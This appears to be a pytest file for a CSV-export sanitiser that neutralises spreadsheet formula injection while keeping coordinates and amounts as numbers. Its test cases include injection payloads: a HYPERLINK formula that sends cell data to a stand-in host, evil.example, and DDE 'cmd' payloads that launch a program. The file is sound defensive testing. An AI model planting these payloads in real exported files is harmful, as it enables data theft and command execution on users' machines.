"""CSV formula injection: formulas in text cells are neutralised, numbers and plain text kept."""

from __future__ import annotations

import csv
from decimal import Decimal

import pytest
from hypothesis import given
from hypothesis import strategies as hs

from dispatch.csvsafe import DANGEROUS, neutralise, neutralise_row


@pytest.mark.parametrize(
    "cell",
    [
        "=1+1",
        '=HYPERLINK("http://evil.example/?"&A1,"Cliquez")',
        "+1 450 555-1234",
        "-2+3",
        "@SUM(A1:A9)",
        "\t=cmd|' /C calc'!A0",
        "\r=1",
        "   =1+1",
        "=",
        "-",
        "-cmd|'/C calc'!A0",
    ],
)
def test_formula_cells_get_an_apostrophe(cell):
    """Cells a spreadsheet would run as a formula are prefixed with ' (shown as text)."""
    assert neutralise(cell) == "'" + cell


@pytest.mark.parametrize("cell", ["-73.6", "45.7", "+12", "-0,5", "1e-3", "-1.5E+3", " -73.61 "])
def test_plain_numbers_are_left_alone(cell):
    """Coordinates and amounts stay numbers: -73.6 is not a formula."""
    assert neutralise(cell) == cell


@pytest.mark.parametrize("value", ["Marie Tremblay", "1234 chemin Sainte-Marie", "", None, 12, -3.5, Decimal("-2.00")])
def test_ordinary_text_and_non_text_values_are_unchanged(value):
    """Names, addresses, empty cells and non-text values pass through as they are."""
    assert neutralise(value) == value


def test_row_helper_neutralises_every_cell():
    """neutralise_row applies to every cell of a dict row and leaves the input unchanged."""
    row = {"name": "=evil()", "lat": "-73.6", "note": "@x"}
    assert neutralise_row(row) == {"name": "'=evil()", "lat": "-73.6", "note": "'@x"}
    assert row["name"] == "=evil()"


@given(hs.text())
def test_no_neutralised_cell_starts_a_formula(text):
    """For any text, the written cell never starts (after spaces) with a formula character,
    unless it is a plain number; and removing the added ' gives back the original."""
    out = neutralise(text)
    head = out.lstrip(" ")
    if head and head[0] in DANGEROUS:
        float(out.strip().replace(",", "."))  # only numbers may start with + or -
    if out != text:
        assert out == "'" + text


def test_neutralised_cells_survive_a_csv_round_trip(tmp_path):
    """Written with the csv module and read back, the cell is the neutralised text."""
    p = tmp_path / "x.csv"
    with p.open("w", newline="", encoding="utf-8") as fh:
        csv.writer(fh).writerow([neutralise("=1+1"), neutralise("-73.6")])
    with p.open(newline="", encoding="utf-8") as fh:
        assert next(csv.reader(fh)) == ["'=1+1", "-73.6"]


def test_batch_csv_writer_neutralises_echoed_cells(tmp_path):
    """geocode/coverage --csv output: an address or header holding a formula is written as text,
    coordinates stay numbers."""
    from dispatch.geo.geocode_csv import read_csv_rows, write_csv_rows

    out = tmp_path / "out.csv"
    rows = [{"=id": "1", "address": '=HYPERLINK("http://evil.example","x")', "lat": "45.7", "lon": "-73.6"}]
    write_csv_rows(out, ["=id", "address", "lat", "lon"], rows)
    fields, back = read_csv_rows(out, required=[("address",)])
    assert fields == ["'=id", "address", "lat", "lon"]
    assert back == [{"'=id": "1", "address": '\'=HYPERLINK("http://evil.example","x")', "lat": "45.7", "lon": "-73.6"}]
